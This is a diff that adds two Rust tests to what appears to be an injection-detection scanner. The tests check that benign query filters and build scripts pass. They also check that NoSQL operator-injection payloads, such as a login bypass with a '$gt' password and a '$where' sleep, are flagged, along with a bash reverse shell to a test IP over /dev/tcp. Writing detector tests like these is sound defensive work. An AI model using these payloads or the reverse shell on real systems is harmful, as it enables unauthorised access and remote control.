@@ -970,3 +970,42 @@ fn jsx_links_to_own_pages_load_nothing() {
             .threat
     );
 }
+
+#[test]
+fn query_api_filters_are_not_operator_injection() {
+    for body in [
+        r#"{"filter":{"$or":[{"state":{"$in":["new","triaged"]}},{"score":{"$gte":3}}]},"sort":{"created":-1},"limit":20}"#,
+        r#"?where={"genre":"jazz","year":{"$lt":1970}}&page=2"#,
+    ] {
+        assert_clean_of(body, Category::Sqli);
+    }
+    // Under credential fields, or running code, an operator is an injection.
+    for body in [
+        r#"{"login":"root","password":{"$gt":""}}"#,
+        r#"{"name":"x","q":{"$where":"sleep(500)"}}"#,
+        "user[$ne]=nobody&pass[$ne]=x",
+    ] {
+        assert!(detector().scan(body.as_bytes()).threat, "{body}");
+    }
+}
+
+#[test]
+fn script_and_build_files_show_their_command_lines() {
+    for text in [
+        "#!/bin/sh\nset -e\ncd \"$(dirname \"$0\")\"\nnpm ci && npm run build\nrm -rf dist/tmp\n",
+        "FROM alpine:3.20\nRUN apk add --no-cache curl && rm -rf /var/cache/apk/*\nCMD [\"/app/run\"]\n",
+        "build:\n  stage: build\n  script:\n    - export TAG=$(git rev-parse --short HEAD)\n    - docker build -t app:$TAG . > build.log\n",
+        ".PHONY: test\ntest:\n\tgo test ./... || (echo 'tests failed'; exit 1)\n",
+        "@echo off\nsetlocal\nif not exist out mkdir out\nmsbuild app.sln /p:Configuration=Release && echo done\n",
+    ] {
+        let v = detector().scan_as(text.as_bytes(), InputKind::Text);
+        assert!(!v.threat, "{text}: {:?}", v.findings);
+    }
+    // The same file as a parameter is still a command line, and a reverse
+    // shell in a script stays one everywhere.
+    let body =
+        serde_json::json!({"script": "#!/bin/sh\nid\ncat /etc/hostname; uname -a\n"}).to_string();
+    assert!(detector().scan(body.as_bytes()).threat);
+    let text = "#!/bin/bash\necho start\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";
+    assert!(detector().scan_as(text.as_bytes(), InputKind::Text).threat);
+}
